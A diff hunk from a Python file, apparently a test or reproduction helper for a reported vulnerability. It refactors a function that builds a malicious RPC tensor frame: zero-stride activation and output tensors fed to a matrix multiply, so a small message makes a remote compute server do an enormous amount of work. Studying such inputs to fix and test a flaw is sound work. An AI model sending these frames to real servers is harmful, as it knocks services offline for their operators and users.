@@ -44,24 +44,11 @@ def amplification_frame(handle: int, base: int, batch: int = 1 << 20) -> bytes:
     """The issue's attack: 1024x1024 f32 weights broadcast over a zero-stride activation batch,
     into a zero-stride output. Repeating the weights would take batch x 4 MiB."""
     a = _native.RpcTensor(id=1, type=F32, buffer=handle, data=base, ne=(1024, 1024, 1, 1))
-    b = _native.RpcTensor(
-        id=2,
-        type=F32,
-        buffer=handle,
-        data=base + (4 << 20),
-        ne=(1024, 1, batch, 1),
-        nb=(4, 4096, 0, 0),
-    )
+    # the activations and the output: `batch` rows of 1024, all on the same bytes (stride 0)
+    zero_stride = {"type": F32, "buffer": handle, "ne": (1024, 1, batch, 1), "nb": (4, 4096, 0, 0)}
+    b = _native.RpcTensor(id=2, data=base + (4 << 20), **zero_stride)
     out = _native.RpcTensor(
-        id=3,
-        type=F32,
-        buffer=handle,
-        data=base + (8 << 20),
-        ne=(1024, 1, batch, 1),
-        nb=(4, 4096, 0, 0),
-        op=MUL_MAT,
-        src=(1, 2),
-        flags=16,
+        id=3, data=base + (8 << 20), op=MUL_MAT, src=(1, 2), flags=16, **zero_stride
     )
     tensors = [a, b, out]
     return (
